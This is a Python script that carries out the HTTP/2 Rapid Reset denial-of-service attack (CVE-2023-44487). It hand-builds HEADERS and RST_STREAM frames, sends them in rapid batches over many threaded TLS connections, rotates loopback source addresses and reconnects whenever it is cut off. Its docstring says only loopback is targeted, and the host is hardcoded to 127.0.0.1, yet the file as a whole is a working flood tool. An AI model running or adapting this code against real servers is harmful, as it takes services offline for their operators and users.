#!/usr/bin/env python3
"""Opens HTTP/2 streams and resets them at once, as fast as the other side takes it (CVE-2023-44487).

  rapid_reset.py PORT [CONNECTIONS]

Only loopback is attacked. It comes back when it is cut, and runs until it is killed.
"""
import random, socket, ssl, struct, sys, threading, time

PORT, CONNECTIONS = int(sys.argv[1]), int(sys.argv[2]) if len(sys.argv) > 2 else 40
context = ssl.create_default_context()
context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
context.set_alpn_protocols(["h2"])


def frame(kind, flags, stream, content=b""):
    return struct.pack(">I", len(content))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + content


def literal(index, value):
    return bytes([index, len(value)]) + value


# :method GET, :scheme https, :path /item/N, :authority, by the static table (RFC 7541 appendix A).
def head(item):
    return b"\x82\x87" + literal(0x04, b"/item/%d" % item) + literal(0x01, b"site.example")


def attack(number):
    random.seed(number)
    while True:
        source = f"127.{random.randrange(1, 255)}.{random.randrange(255)}.{random.randrange(1, 255)}"
        try:
            raw = socket.create_connection(("127.0.0.1", PORT), timeout=5, source_address=(source, 0))
            tls = context.wrap_socket(raw, server_hostname="site.example")
            tls.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(4, 0, 0))
            stream = 1
            while stream < 1 << 24:
                batch = b"".join(
                    frame(1, 5, s, head(random.randrange(2000))) + frame(3, 0, s, struct.pack(">I", 8))
                    for s in range(stream, stream + 100, 2)
                )
                tls.sendall(batch)
                stream += 100
                time.sleep(0.02)
        except OSError:
            time.sleep(0.1)


for number in range(CONNECTIONS):
    threading.Thread(target=attack, args=(number,), daemon=True).start()
threading.Event().wait()
